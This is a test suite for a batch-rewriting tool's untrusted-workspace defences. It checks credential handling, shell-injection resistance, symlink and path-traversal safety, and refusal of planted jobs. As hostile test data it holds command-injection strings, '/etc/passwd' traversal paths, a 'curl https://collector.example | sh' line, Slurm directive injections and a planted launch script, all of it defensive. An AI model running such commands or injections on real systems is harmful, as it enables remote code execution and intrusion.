/** A workspace that somebody else wrote: settings, experiments, prompts, and job folders that came with it. */
import { execFileSync } from 'node:child_process';
import { lstat, mkdir, readdir, readFile, rename, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { NEEDS_TRUST } from '../../client/ids.ts';
import { JobFollowing } from '../../client/preview/jobFollowing.ts';
import { PreviewSession } from '../../client/preview/previewSession.ts';
import { decodeManifest } from '../../server/batch/decodeJob.ts';
import { documentsAt } from '../../server/batch/documentsAt.ts';
import { slurmExecutor } from '../../server/batch/executors/slurm/slurmExecutor.ts';
import { directiveProblems } from '../../server/batch/executors/slurm/validateSlurm.ts';
import { pathsOf } from '../../server/batch/jobFolder.ts';
import { listJobs, readJob } from '../../server/batch/jobReader.ts';
import { launchRunner } from '../../server/batch/launchRunner.ts';
import { readOutputManifest, writeOutputManifest } from '../../server/batch/outputManifest.ts';
import { isForeign, rememberJob } from '../../server/batch/ownJobs.ts';
import { sendControl } from '../../server/batch/sendControl.ts';
import type { ExecutorSetup, SlurmOptions } from '../../server/experiment/executors/executorSetup.ts';
import { DEFAULT_SECTIONS, setupOf } from '../../server/experiment/executors/executorSetup.ts';
import { makeJob, run } from '../batch/jobFixture.ts';
import { temporaryFolder } from '../batch/temporaryFolder.ts';
import { openTerminal } from '../cli/terminal.ts';
import { FakePage } from '../client/preview/fakePage.ts';
import { FakeWorld } from '../client/preview/fakeWorld.ts';
import type { Answer } from '../servers/faultServer.ts';
import { serve } from '../servers/serve.ts';

const PROMPT = 'Rewrite.\n\n[[DOCUMENT]]\n';
const ROWS = '{"id":"1","text":"one"}\n{"id":"2","text":"two"}\n';

const fine = (): Answer => ({ kind: 'text', text: 'Fine.' });

/** Settings that a workspace may bring, with why it gains nothing by them. */
const HARMLESS: Readonly<Record<string, string>> = {
  'rephrase.prompts': 'which files are checked',
  'rephrase.endpoint':
    'an alias among the profiles that the user wrote; restricted until the workspace is trusted',
  'rephrase.documents': 'a dataset; restricted until the workspace is trusted',
  'rephrase.jobsFolder': 'where jobs are looked for; restricted until the workspace is trusted',
  'rephrase.sample.size': 'a number',
  'rephrase.sample.seed': 'a number',
  'rephrase.preview.concurrency': 'a number, bounded',
  'rephrase.codeLens': 'yes or no',
  'rephrase.inlayHints': 'yes or no',
  'rephrase.diagnostics': 'how loud problems are',
};

test('W1: no setting that a workspace may bring says where something is sent or what is run', async () => {
  const { contributes, capabilities } = JSON.parse(await readFile('package.json', 'utf8'));
  const groups = [contributes.configuration].flat();
  const settings = Object.entries(Object.assign({}, ...groups.map(({ properties }) => properties)));
  const open = settings.filter(
    ([, setting]) => !/^(machine|application)$/.test((setting as { scope?: string }).scope ?? ''),
  );
  expect(open.map(([key]) => key).filter((key) => !(key in HARMLESS))).toEqual([]);
  expect(settings.map(([key]) => key)).toContain('rephrase.endpoints');
  const restricted: readonly string[] = capabilities.untrustedWorkspaces.restrictedConfigurations;
  const waiting = Object.entries(HARMLESS).filter(([, why]) => why.includes('restricted'));
  expect([...restricted].sort()).toEqual(waiting.map(([key]) => key).sort());
});

test('W2: every command that sends, starts or decides where documents go is refused without trust', async () => {
  const { contributes } = JSON.parse(await readFile('package.json', 'utf8'));
  const titled: readonly { command: string; enablement?: string }[] = contributes.commands;
  for (const id of NEEDS_TRUST) {
    const enablement = titled.find(({ command }) => command === id)?.enablement ?? '';
    expect(enablement, id).toContain('isWorkspaceTrusted');
  }
});

test('W3: an experiment names a server: nothing is sent before the user says so, and never a credential', async () => {
  const terminal = await openTerminal({ env: { SECRET_OF_MINE: 'sk-mine' } });
  await terminal.write('faq.md', PROMPT);
  await terminal.write('data.jsonl', ROWS);
  await terminal.write('a.experiment.yaml', experiment('url: "https://collector.example"'));
  const refused = await terminal.run('run', 'a.experiment.yaml', '--foreground');
  expect(refused).toMatchObject({
    code: 2,
    err: expect.stringContaining('--trust-origin https://collector.example'),
  });
  expect(await readdir(terminal.cwd)).not.toContain('.rephrase');

  const server = await serve(fine);
  await terminal.write(
    'b.experiment.yaml',
    experiment(
      `url: "${server.url}", apiKeyEnv: SECRET_OF_MINE, headers: { authorization: "Bearer x", x-secret: y }`,
    ),
  );
  await terminal.run('run', 'b.experiment.yaml', '--foreground');
  await terminal.write('c.experiment.yaml', experiment(`url: "${server.url}"`));
  expect((await terminal.run('run', 'c.experiment.yaml', '--foreground')).code).toBe(0);
  expect(server.requests.length).toBeGreaterThan(0);
  for (const { headers } of server.requests) {
    expect(headers.authorization).toBeUndefined();
    expect(headers['x-secret']).toBeUndefined();
    expect(JSON.stringify(headers)).not.toContain('sk-mine');
  }
});

test('W4: shell metacharacters in every field run nothing and leave the output folder no way out', async () => {
  const evil = '$(touch pwned); `touch pwned` | touch pwned & "\'\\ ../../up %n <x> \u0007';
  const quoted = JSON.stringify(evil);
  const server = await serve(fine);
  const terminal = await openTerminal();
  await terminal.write('faq.md', `---\nname: ${quoted}\n---\n${PROMPT}`);
  await terminal.write('data.jsonl', `${JSON.stringify({ id: evil, text: evil })}\n`);
  await terminal.write(
    'a.experiment.yaml',
    `name: ${quoted}\nprompts: [faq.md]\nmodels: [{ model: ${quoted}, endpoint: { url: "${server.url}" }, parameters: { user: ${quoted} } }]\ndocuments: { source: data.jsonl }\n`,
  );
  const ran = await terminal.run('run', 'a.experiment.yaml', '--foreground');
  expect(ran.code).toBe(0);
  const found = execFileSync('find', [terminal.cwd, '-name', '*pwned*'], { encoding: 'utf8' });
  expect(found.split('\n').filter((path) => path.endsWith('/pwned'))).toEqual([]);
  const [job] = await listJobs(join(terminal.cwd, '.rephrase', 'jobs'));
  expect(job?.folder.startsWith(join(terminal.cwd, '.rephrase', 'jobs'))).toBe(true);
  for (const name of [job?.manifest.id, ...(job?.manifest.variants ?? []).map(({ id }) => id)]) {
    expect(name).toMatch(/^[A-Za-z0-9_-][A-Za-z0-9._-]*$/);
  }
  expect((await terminal.run('verify', job?.folder ?? '')).code).toBe(0);
});

test.each([
  'journal/00000.ndjson',
  'logs/runner.log',
  'control.ndjson',
  'events.ndjson',
  'series.ndjson',
  'state.json',
  'journal',
  'out',
  'locks',
  'executor',
  'logs',
])('W5: a job folder in which %s is a link is left alone, and so is what the link leads to', async (name) => {
  const { folder, root } = await job();
  const victim = join(root, 'victim');
  const isFolder = !name.includes('.');
  await (isFolder ? mkdir(victim) : writeFile(victim, 'precious\n'));
  await rm(join(folder, name), { recursive: true, force: true });
  await mkdir(join(folder, name, '..'), { recursive: true });
  await symlink(victim, join(folder, name));
  expect(await run(folder)).toMatchObject({ kind: 'refused', message: expect.stringContaining(name) });
  const launch = launchRunner({ folder, node: process.execPath, cli: 'server/cli.ts', credentials: {} });
  await expect(launch).rejects.toThrow('nothing is written there');
  if (isFolder) expect(await readdir(victim)).toEqual([]);
  else expect(await readFile(victim, 'utf8')).toBe('precious\n');
});

test('W6: a command to a job follows no link', async () => {
  const { folder, root } = await job();
  await writeFile(join(root, 'victim'), 'precious\n');
  await symlink(join(root, 'victim'), pathsOf(folder).control);
  await expect(sendControl(folder, { command: 'pause' })).rejects.toThrow();
  expect(await readFile(join(root, 'victim'), 'utf8')).toBe('precious\n');
});

test('W7: looking at job folders hangs on no pipe, reads no device, and one bad folder hides no other', async () => {
  const { folder } = await job();
  const jobs = join(folder, '..');
  for (const name of ['pipe', 'device', 'loop', 'big']) await mkdir(join(jobs, name));
  execFileSync('mkfifo', [join(jobs, 'pipe', 'job.json')]);
  await symlink('/dev/zero', join(jobs, 'device', 'job.json'));
  await symlink('job.json', join(jobs, 'loop', 'job.json'));
  execFileSync('truncate', ['-s', '3G', join(jobs, 'big', 'job.json')]);
  await rm(pathsOf(folder).state, { force: true });
  execFileSync('mkfifo', [pathsOf(folder).state]);
  expect((await listJobs(jobs)).map((seen) => seen.folder)).toEqual([folder]);
});

test('W8: a forged manifest borrows no origin, leads out of no folder and takes over no output', async () => {
  const { folder, root } = await job();
  const honest = JSON.parse(await readFile(pathsOf(folder).manifest, 'utf8'));
  const [endpoint] = honest.endpoints;
  const [variant] = honest.variants;
  const forged: readonly object[] = [
    { endpoints: [{ ...endpoint, baseUrl: 'https://collector.example/v1' }] },
    {
      endpoints: [
        { ...endpoint, replicas: [{ baseUrl: 'https://collector.example/v1', origin: endpoint.origin }] },
      ],
    },
    { variants: [{ ...variant, id: '../../../up' }] },
    { variants: [{ ...variant, id: '/tmp/up' }] },
    { id: '../up' },
  ];
  for (const change of forged) expect(decodeManifest({ ...honest, ...change })).toMatchObject({ ok: false });
  expect(decodeManifest(honest)).toMatchObject({ ok: true });

  const elsewhere = join(root, 'project');
  await mkdir(elsewhere);
  await writeFile(join(elsewhere, 'README.md'), 'mine\n');
  await writeFile(pathsOf(folder).manifest, JSON.stringify({ ...honest, output: elsewhere }));
  expect(await run(folder)).toMatchObject({ kind: 'refused', message: expect.stringContaining(elsewhere) });
  expect(await readdir(elsewhere)).toEqual(['README.md']);
});

test('W9: a forged list of output files leads to none elsewhere', async () => {
  const { folder } = await job();
  const output = join(folder, 'out');
  const manifest = await readOutputManifest(output);
  if (!manifest) throw new Error('The fixture has no output manifest.');
  for (const path of ['../../../../etc/passwd', '/etc/passwd', 'a/../../b', 'a\\..\\..\\b']) {
    const part = { path, rows: 1, sizeBytes: 1, sha256: 'x', segment: 0, variant: 'v' };
    await writeOutputManifest(output, { ...manifest, parts: [part] });
    expect(await readOutputManifest(output), path).toBeNull();
  }
});

test('W10: resuming a job that came with the workspace asks for the origins that only the job names', async () => {
  const { folder, root } = await job();
  const path = pathsOf(folder).manifest;
  await change(path, (text) => text.replaceAll(/http:\/\/127\.0\.0\.1:\d+/g, 'https://collector.example'));
  const terminal = await openTerminal();
  await rename(root, join(terminal.cwd, 'planted'));
  const planted = folder.replace(root, join(terminal.cwd, 'planted'));
  expect((await readJob(planted))?.manifest.endpoints[0]?.origin).toBe('https://collector.example');
  for (const command of ['resume', 'retry']) {
    const ended = await terminal.run(command, planted);
    if (command === 'retry' && ended.err.includes('no failed documents')) continue;
    expect(ended).toMatchObject({
      code: 2,
      err: expect.stringContaining('Only the job names https://collector.example'),
    });
  }
  expect((await lstat(planted)).isDirectory()).toBe(true);
});

test('W11: a variable that a job or an experiment names for its key is not read', async () => {
  const server = await serve(fine);
  const root = await temporaryFolder();
  const made = await makeJob({
    root,
    url: server.url,
    documents: 1,
    endpoint: { apiKeyEnv: 'SECRET_OF_MINE' },
  });
  await change(pathsOf(made.folder).manifest, (text) => text);
  const terminal = await openTerminal({ env: { SECRET_OF_MINE: 'sk-mine' } });
  expect((await terminal.run('resume', made.folder, '--foreground')).code).toBe(0);
  expect(server.requests).toHaveLength(1);
  expect(server.requests[0]?.headers.authorization).toBeUndefined();
});

test('W14: text of an experiment becomes no line of a script for a cluster', async () => {
  const subject = { variants: [], endpoints: [], rollouts: 1, documents: 1 };
  const asked = [
    { partition: 'gpu\n#SBATCH --uid=0' },
    { account: '-x' },
    { qos: '$(id)' },
    { sbatch: { comment: 'a\nb' } },
    { sbatch: { wrap: 'id' } },
    { sbatch: { 'bcast=/tmp/x\n': 'id' } },
  ];
  for (const slurm of asked) {
    const setup = onSlurm(slurm);
    if (setup.kind !== 'slurm') throw new Error('another executor');
    expect(directiveProblems(setup)[0]?.severity).toBe('error');
    expect(
      (await slurmExecutor.validate({ setup, ...subject })).some(({ severity }) => severity === 'error'),
    ).toBe(true);
  }
});

function onSlurm(slurm: Partial<SlurmOptions>): ExecutorSetup {
  return setupOf('slurm', { ...DEFAULT_SECTIONS, slurm: { ...DEFAULT_SECTIONS.slurm, ...slurm } });
}

async function job(): Promise<{ readonly folder: string; readonly root: string }> {
  const server = await serve(fine);
  const root = await temporaryFolder();
  const { folder } = await makeJob({ root, url: server.url, documents: 1 });
  return { folder, root };
}

test.each([
  ['lines of shell', { setup: ['curl https://collector.example | sh'] }, 'collector.example | sh'],
  ['a host', { host: 'login.collector.example' }, 'host: login.collector.example'],
  ['a module', { modules: ['evil/1.0'] }, 'module load evil/1.0'],
])(
  'W12: a planted job that would run %s on a cluster is not resumed unless the user says so',
  async (_, slurm, said) => {
    const { folder } = await job();
    await change(pathsOf(folder).manifest, (text) => {
      return JSON.stringify({ ...JSON.parse(text), executor: onSlurm(slurm) }, null, 2);
    });
    const terminal = await openTerminal();
    expect(await terminal.run('resume', folder)).toMatchObject({
      code: 2,
      err: expect.stringContaining(said),
    });
  },
);

test('W13: programs that came in the folder of a job are not run: only a job that the user made works there', async () => {
  const { folder, root } = await job();
  const planted = join(folder, 'executor', 'launch-0');
  await mkdir(planted, { recursive: true });
  await writeFile(join(planted, 'launch.py'), `open(${JSON.stringify(join(root, 'pwned'))}, 'w')\n`);
  await change(pathsOf(folder).manifest, (text) => {
    const executor = setupOf('datatrove-local', DEFAULT_SECTIONS);
    return JSON.stringify({ ...JSON.parse(text), executor }, null, 2);
  });
  const terminal = await openTerminal();
  const refused = await terminal.run('resume', folder);
  expect(refused).toMatchObject({
    code: 2,
    err: expect.stringContaining('programs and notes in its folder executor/'),
  });
  expect(await readdir(root)).not.toContain('pwned');
  const record = join(root, 'own-jobs');
  const manifest = (await readJob(folder))?.manifest;
  if (!manifest) throw new Error('The changed manifest cannot be read.');
  expect(await isForeign(record, folder, manifest)).toBe(true);
  await rememberJob(record, folder);
  expect(await isForeign(record, folder, manifest)).toBe(false);
  await writeFile(pathsOf(folder).manifest, `${await readFile(pathsOf(folder).manifest, 'utf8')} `);
  expect(await isForeign(record, folder, manifest)).toBe(true);
});

test('W15: the dataset that a planted job names is not read for its failures before the workspace is trusted', async () => {
  const { url } = await serve(() => ({ kind: 'status', status: 400 }));
  const { folder, manifest } = await makeJob({ root: await temporaryFolder(), url, documents: 2 });
  await run(folder);
  const textsWhere = async (isTrusted: boolean): Promise<readonly string[]> => {
    const world = new FakeWorld();
    const session = new PreviewSession(['file:///job.json'], ['test'], world);
    const page = new FakePage(session);
    const following = new JobFollowing({
      folder,
      session,
      clock: world.clock,
      judged: () => ({ rating: null, comment: '' }),
      visible: () => true,
      isTrusted: () => isTrusted,
      failed: (error) => {
        throw error;
      },
    });
    await following.look();
    following.dispose();
    return page.grid?.rows.map(({ text }) => text) ?? [];
  };
  expect(await textsWhere(false)).toEqual(['', '']);
  expect((await textsWhere(true)).every((text) => text.includes('the river'))).toBe(true);
  const at = { fileOrdinal: 0, row: 0, id: 'another' };
  expect((await documentsAt(manifest.input, [at], 10_000)).size).toBe(0);
  const device = { ...manifest.input, source: '/dev/zero' };
  expect((await documentsAt(device, [{ ...at, id: 'doc-0' }], 10_000)).size).toBe(0);
});

/** Also makes the job an old one: a young one without a runner is being launched. */
async function change(manifest: string, edit: (text: string) => string): Promise<void> {
  const text = await readFile(manifest, 'utf8');
  await writeFile(
    manifest,
    edit(text).replace(/"createdAt": "[^"]*"/, '"createdAt": "2020-01-01T00:00:00.000Z"'),
  );
}

function experiment(endpoint: string): string {
  return `name: a\nprompts: [faq.md]\nmodels: [{ model: test-model, endpoint: { ${endpoint} } }]\ndocuments: { source: data.jsonl }\n`;
}
